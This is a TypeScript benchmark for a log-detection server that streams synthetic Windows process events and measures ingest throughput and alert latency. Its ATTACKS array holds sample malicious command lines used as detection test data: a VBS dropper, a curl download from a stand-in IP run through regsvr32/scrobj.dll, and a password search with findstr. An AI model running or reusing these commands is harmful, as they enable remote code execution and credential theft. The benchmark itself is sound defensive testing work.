/**
 * `eqlite serve` under sustained `_bulk` ingest over loopback (issue 8): the founding rule,
 * generated ECS process events with a few percent matching it, several concurrent shipper
 * connections. Reports events/s and alert latency — from the moment a bulk is sent to the moment
 * its alert arrives on the live stream (`/api/stream`, what the UI shows), p50 and p99.
 *
 *   npx tsx bench/serve.ts [--events 1000000] [--bulk 5000] [--connections 2] [--match 0.02] [--sync full|normal] [--times stream|overlap] [--serve-args "..."]
 *
 * Event times (`--times`): `stream` (default) numbers the events' `@timestamp` 1 ms apart across
 * the whole stream, as shippers send events roughly in time order; `overlap` is what this bench
 * did before: every bulk starts at the time it was generated and covers 5 s, so all bulks cover
 * the same few seconds and the store's time-ordered indexes (`@timestamp`, `_id`) take inserts
 * scattered over their whole length.
 *
 * Also reports the server's CPU time per event, per thread (Linux /proc: the threads eqlite
 * names, e.g. `eqlite-prepare`, the main thread, and the rest: V8's GC and compiler helpers).
 * `EQLITE_BENCH_NODE_ARGS="--cpu-prof --cpu-prof-dir=/tmp/prof"` profiles the server (every thread).
 *
 * The server runs in its own process (the built CLI when `dist/` exists, else through tsx); bulk
 * bodies are generated before the clock starts, so the client costs little CPU while measuring.
 */
import { spawn } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { report } from './report.js';

const root = new URL('..', import.meta.url).pathname;
const argv = process.argv.slice(2);
const arg = (name: string, dflt: string) => {
  const i = argv.indexOf(name);
  return i >= 0 ? argv[i + 1] : dflt;
};
const EVENTS = Number(arg('--events', '1000000'));
const BULK = Number(arg('--bulk', '5000'));
const CONNECTIONS = Number(arg('--connections', '2'));
const MATCH = Number(arg('--match', '0.02'));
const SYNC = arg('--sync', 'full');
const TIMES = arg('--times', 'stream');
if (TIMES !== 'stream' && TIMES !== 'overlap') throw new Error(`--times: stream or overlap, not ${TIMES}`);
// Event time of the first event (stream times): an hour ago.
const T0 = Date.now() - 3_600_000;
// Extra `eqlite serve` options, e.g. `--serve-args "--ingest-threads 2"`.
const SERVE_ARGS = arg('--serve-args', '').split(' ').filter(Boolean);
const INDEX = 'logs-windows.sysmon_operational-default';

const ATTACKS = [
  'cmd.exe /c echo Set o=CreateObject("WScript.Shell") > %TEMP%\\r.vbs & echo wscript %TEMP%\\r.vbs',
  'cmd /c curl http://198.51.100.7/a.sct -o a.sct & regsvr32 /s /n /u /i:a.sct scrobj.dll',
  'cmd.exe /c findstr /i passw C:\\Users\\alice\\Documents\\*.txt',
];
const ORDINARY = [
  [
    'svchost.exe',
    'C:\\Windows\\System32\\svchost.exe',
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule',
    'services.exe',
  ],
  [
    'chrome.exe',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer',
    'chrome.exe',
  ],
  ['cmd.exe', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir C:\\ProgramData\\agent', 'svchost.exe'],
  [
    'powershell.exe',
    'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell.exe -NoProfile -File C:\\ProgramData\\agent\\inventory.ps1',
    'svchost.exe',
  ],
];

function bulkBody(b: number, count: number, seed: number): { body: Buffer; matching: number } {
  let s = '';
  let matching = 0;
  const action = `{"create":{"_index":"${INDEX}"}}\n`;
  const t = TIMES === 'overlap' ? Date.now() : T0 + seed;
  for (let i = 0; i < count; i++) {
    const n = seed + i;
    const attack = (n * 2654435761) % 1000 < MATCH * 1000;
    let name: string, exe: string, cl: string, parent: string;
    if (attack) {
      matching++;
      [name, exe, cl, parent] = [
        'cmd.exe',
        'C:\\Windows\\System32\\cmd.exe',
        ATTACKS[n % ATTACKS.length],
        'explorer.exe',
      ];
    } else [name, exe, cl, parent] = ORDINARY[n % ORDINARY.length];
    const doc = {
      '@timestamp': new Date(t + i).toISOString(),
      event: { category: ['process'], type: ['start'], action: 'start', kind: 'event' },
      host: { id: `host-${n % 500}`, name: `ws-${n % 500}`, os: { type: 'windows' } },
      // The bulk number travels in the user name, so the stream can time each alert.
      user: { name: `b${b}`, domain: 'CORP' },
      process: {
        entity_id: `p-${n}`,
        pid: 1000 + (n % 60000),
        name,
        executable: exe,
        command_line: cl,
        args: cl.split(' '),
        parent: { entity_id: `pp-${n >> 3}`, pid: 500 + (n % 4000), name: parent },
      },
      data_stream: { type: 'logs', dataset: 'windows.sysmon_operational', namespace: 'default' },
    };
    s += action + JSON.stringify(doc) + '\n';
  }
  // Bytes, as a shipper holds them: the client does not encode 3.7 MB per request while measured.
  return { body: Buffer.from(s), matching };
}

/** CPU seconds per thread of a process, by thread name (the main thread is `main`). */
function threadCpu(pid: number): Map<string, number> {
  const out = new Map<string, number>();
  let dirs: string[];
  try {
    dirs = readdirSync(`/proc/${pid}/task`);
  } catch {
    return out; // not Linux, or the process is gone
  }
  for (const tid of dirs) {
    try {
      const stat = readFileSync(`/proc/${pid}/task/${tid}/stat`, 'utf8');
      const close = stat.lastIndexOf(')');
      const name = tid === String(pid) ? 'main' : stat.slice(stat.indexOf('(') + 1, close);
      const f = stat.slice(close + 2).split(' ');
      // utime and stime are fields 14 and 15 (1-based), in clock ticks (100 per second on Linux).
      const s = (Number(f[11]) + Number(f[12])) / 100;
      out.set(name, (out.get(name) ?? 0) + s);
    } catch {
      // The thread ended meanwhile.
    }
  }
  return out;
}

function percentile(sorted: number[], p: number): number {
  if (sorted.length === 0) return NaN;
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))];
}

async function main(): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'eqlite-bench-serve-'));
  const built = existsSync(join(root, 'dist/cli/main.js')) && existsSync(join(root, 'dist/server/index.js'));
  const entry = built ? [join(root, 'dist/cli/main.js')] : ['--import', 'tsx', join(root, 'src/cli/main.ts')];
  const nodeArgs = (process.env.EQLITE_BENCH_NODE_ARGS ?? '').split(' ').filter(Boolean);
  const server = spawn(
    process.execPath,
    [...nodeArgs, ...entry, 'serve', '--port', '0', '--data', dir, '--sync', SYNC, ...SERVE_ARGS],
    {
      stdio: ['ignore', 'ignore', 'pipe'],
    },
  );
  let err = '';
  const url = await new Promise<string>((resolve, reject) => {
    server.stderr.on('data', (c: Buffer) => {
      err += c.toString();
      const m = /listening on (http:\/\/\S+)/.exec(err);
      if (m) resolve(m[1]);
    });
    server.once('exit', () => reject(new Error(`server exited:\n${err}`)));
  });

  process.stdout.write(`generating ${EVENTS} events in bulks of ${BULK}...\n`);
  const bulks: Array<{ body: Buffer; matching: number }> = [];
  for (let b = 0, seed = 0; seed < EVENTS; b++, seed += BULK)
    bulks.push(bulkBody(b, Math.min(BULK, EVENTS - seed), seed));
  const expected = bulks.reduce((n, b) => n + b.matching, 0);

  // Alerts as the UI sees them.
  const sent = new Float64Array(bulks.length);
  const latencies: number[] = [];
  const ctl = new AbortController();
  const stream = await fetch(`${url}/api/stream`, { signal: ctl.signal });
  let gotAll: () => void = () => undefined;
  const allAlerts = new Promise<void>((r) => (gotAll = r));
  void (async () => {
    const reader = (stream.body as ReadableStream<Uint8Array>).getReader();
    const dec = new TextDecoder();
    let buf = '';
    for (;;) {
      const { value, done } = await reader.read().catch(() => ({ value: undefined, done: true }));
      if (done) return;
      const now = performance.now();
      buf += dec.decode(value, { stream: true });
      let k: number;
      while ((k = buf.indexOf('\n\n')) >= 0) {
        const msg = buf.slice(0, k);
        buf = buf.slice(k + 2);
        if (!msg.startsWith('event: alert\n')) continue;
        const m = /"user":"b(\d+)"/.exec(msg);
        if (m) latencies.push(now - sent[Number(m[1])]);
        if (latencies.length >= expected) gotAll();
      }
    }
  })();

  process.stdout.write(`sending over ${CONNECTIONS} connection(s)...\n`);
  let next = 0;
  let failed = 0;
  const cpu0 = threadCpu(server.pid ?? 0);
  const client0 = process.cpuUsage();
  const t0 = performance.now();
  await Promise.all(
    Array.from({ length: CONNECTIONS }, async () => {
      for (;;) {
        const b = next++;
        if (b >= bulks.length) return;
        sent[b] = performance.now();
        const r = await fetch(`${url}/_bulk`, {
          method: 'POST',
          body: bulks[b].body,
          headers: { 'content-type': 'application/x-ndjson' },
        });
        const j = (await r.json()) as { errors: boolean };
        if (r.status !== 200 || j.errors) {
          failed++;
          if (failed === 1) process.stderr.write(`first failed bulk: ${r.status} ${JSON.stringify(j).slice(0, 300)}\n`);
        }
      }
    }),
  );
  const ingestS = (performance.now() - t0) / 1000;
  const cpu1 = threadCpu(server.pid ?? 0);
  const client = process.cpuUsage(client0);
  await Promise.race([allAlerts, new Promise((r) => setTimeout(r, 30_000))]);
  const health = (await (await fetch(`${url}/api/health`)).json()) as {
    store: { events: number; alerts: number; bytes: number };
  };
  ctl.abort();
  server.kill('SIGTERM');
  await new Promise((r) => server.once('exit', r));
  rmSync(dir, { recursive: true, force: true });

  latencies.sort((a, b) => a - b);
  // Threads eqlite does not name are V8's helpers (GC, compiler) and libuv's: summed as `other`.
  const perThread = new Map<string, number>();
  for (const [name, s] of cpu1) {
    const key = name === 'main' || name.startsWith('eqlite') ? name : 'other';
    perThread.set(key, (perThread.get(key) ?? 0) + s - (cpu0.get(name) ?? 0));
  }
  const totalCpu = [...perThread.values()].reduce((a, b) => a + b, 0);
  const us = (s: number) => ((s * 1e6) / EVENTS).toFixed(1);
  const cpuLine = [...perThread]
    .sort((a, b) => b[1] - a[1])
    .map(([name, s]) => `${name} ${us(s)}`)
    .join(', ');
  report(
    'Serve',
    `npx tsx bench/serve.ts --events ${EVENTS} --bulk ${BULK} --connections ${CONNECTIONS} --match ${MATCH} --sync ${SYNC} --times ${TIMES}`,
    [
      `events sent:        ${EVENTS.toLocaleString('en')} in ${bulks.length} bulks of ${BULK} (${(bulks.reduce((n, b) => n + b.body.length, 0) / 1e6).toFixed(0)} MB), failed bulks: ${failed}`,
      `ingest:             ${(EVENTS / ingestS).toFixed(0)} events/s (${ingestS.toFixed(1)} s, acknowledged = durable, --sync ${SYNC})`,
      `server CPU:         ${us(totalCpu)} µs/event (${cpuLine}; ${((totalCpu / ingestS) * 100).toFixed(0)}% of one core; this client ${us((client.user + client.system) / 1e6)})`,
      `alerts:             ${latencies.length} on the stream, ${health.store.alerts} in the store, ${expected} expected`,
      `alert latency:      p50 ${percentile(latencies, 50).toFixed(0)} ms, p99 ${percentile(latencies, 99).toFixed(0)} ms, max ${(latencies[latencies.length - 1] ?? NaN).toFixed(0)} ms (bulk sent → alert on /api/stream)`,
      `store:              ${health.store.events.toLocaleString('en')} events, ${(health.store.bytes / 1e6).toFixed(0)} MB`,
    ],
  );
  if (failed) process.stderr.write(`server log:\n${err.slice(-2000)}\n`);
  if (failed || health.store.alerts !== expected || health.store.events !== EVENTS) process.exitCode = 1;
}

await main();
